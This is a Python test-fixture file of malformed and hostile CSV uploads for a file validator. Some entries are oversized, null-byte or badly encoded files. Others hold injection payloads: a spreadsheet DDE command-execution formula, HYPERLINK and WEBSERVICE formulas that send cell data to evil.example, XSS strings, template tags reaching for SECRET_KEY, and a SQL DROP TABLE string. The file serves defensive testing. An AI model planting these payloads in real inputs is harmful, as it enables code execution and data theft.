"""Texts that are too much, broken, or want to run somewhere."""

GOOD = b"codigo,nombre\nA-1,Ana\nA-2,Bea\n"


def as_is(content):
    return lambda: content


def wide(columns):
    return lambda: (",".join(f"c{n}" for n in range(columns)) + "\n" + ",".join("1" * columns) + "\n").encode()


CASES = {
    "nothing": ("registro.csv", as_is(b""), "refused"),
    "blanks": ("registro.csv", as_is(b" \n\n \n"), "refused"),
    "a header alone": ("registro.csv", as_is(b"codigo,nombre\n"), "refused"),
    "201 columns": ("registro.csv", wide(201), "refused"),
    "a million columns": ("registro.csv", wide(1_000_000), "refused"),
    "a line of 20 million letters": ("registro.csv", lambda: b"codigo,nombre\nA," + b"x" * 20_000_000 + b"\n", "refused"),
    "a cell of 900,000 letters": ("registro.csv", lambda: b"codigo,nombre\nA," + b"x" * 900_000 + b"\n", "refused"),
    "a quote that never ends": ("registro.csv", lambda: b'codigo,nombre\nA,"' + b"x\n" * 3_000_000, "refused"),
    "a million quoted line breaks": ("registro.csv", lambda: b'codigo,nombre\nA,"' + b"\n" * 1_000_000 + b'"\n', "refused"),
    "more than 50 MB": ("registro.csv", lambda: GOOD + b"A,B\n" * 13_000_000, "refused"),
    "a million short rows": ("registro.csv", lambda: b"codigo,nombre\n" + b"A,B\n" * 1_000_000, "refused"),
    "empty bytes at the start": ("registro.csv", as_is(b"codigo,nombre\nA\0,B\n"), "refused"),
    "empty bytes far behind": ("registro.csv", lambda: b"codigo,nombre\n" + b"A,Ana Luz\n" * 60_000 + b"A,\0B\n", "refused"),
    "broken UTF-8": ("registro.csv", lambda: "codigo,nombre\nA,Ángel Ñuño\nB,José\n".encode() + b"C,\xff\xfe\x80\n", "refused"),
    "half of UTF-16": ("registro.csv", lambda: "codigo,nombre\nA,B\n".encode("utf-16")[:-1], "refused"),
    "UTF-32": ("registro.csv", lambda: "codigo,nombre\nA,B\n".encode("utf-32"), "refused"),
    "EBCDIC": ("registro.csv", lambda: "codigo,nombre\nA-1,Ana\n".encode("cp500"), "refused"),
    "random bytes": ("registro.csv", lambda: bytes((n * 7919 + 13) % 251 for n in range(50_000)), "refused"),
    "two columns of one name": ("registro.csv", as_is(b"nombre,NOMBRE\nA,B\n"), "refused"),
    "formulas": ("registro.csv", as_is(b"codigo,nombre\nA-1,=1+1\nA-2,@SUM(A1)\nA-3,+cmd|' /C calc'!A0\n"), "neutral"),
    "outside links": ("registro.csv", as_is(b'codigo,nombre\nA-1,"=HYPERLINK(""http://evil.example/""&A1,""x"")"\nA-2,"=WEBSERVICE(""http://evil.example/"")"\n'), "neutral"),
    "markup": ("registro.csv", as_is(b"codigo,nombre\nA-1,<script>alert(1)</script>\nA-2,<img src=x onerror=alert(1)>\n"), "neutral"),
    "markup in the header": ("registro.csv", as_is(b"codigo,<script>alert(1)</script>\nA-1,Ana\n"), "neutral"),
    "template signs": ("registro.csv", as_is(b"codigo,nombre\nA-1,{{ settings.SECRET_KEY }}\nA-2,{% debug %}\n"), "neutral"),
    "SQL": ("registro.csv", as_is(b"codigo,nombre\nA-1,'; DROP TABLE people_person; --\n"), "neutral"),
    "turned letters": ("registro.csv", lambda: "codigo,nombre\nA-1,\u202eanA\u202c\nA-2,\u2066x\n".encode(), "neutral"),
    "signs that ring": ("registro.csv", as_is(b"codigo,nombre\nA-1,Ana\x07\x1b[31m\n"), "neutral"),
    "old line ends": ("registro.csv", as_is(b"codigo,nombre\rA-1,Ana\rA-2,Bea\r"), "neutral"),
    "signs of other planes": ("registro.csv", lambda: "codigo,nombre\nA-1,\U0001f9f5\u0301\u0301\u0301\u200d\nA-2,\ufdfd\n".encode(), "neutral"),
}  # fmt: skip
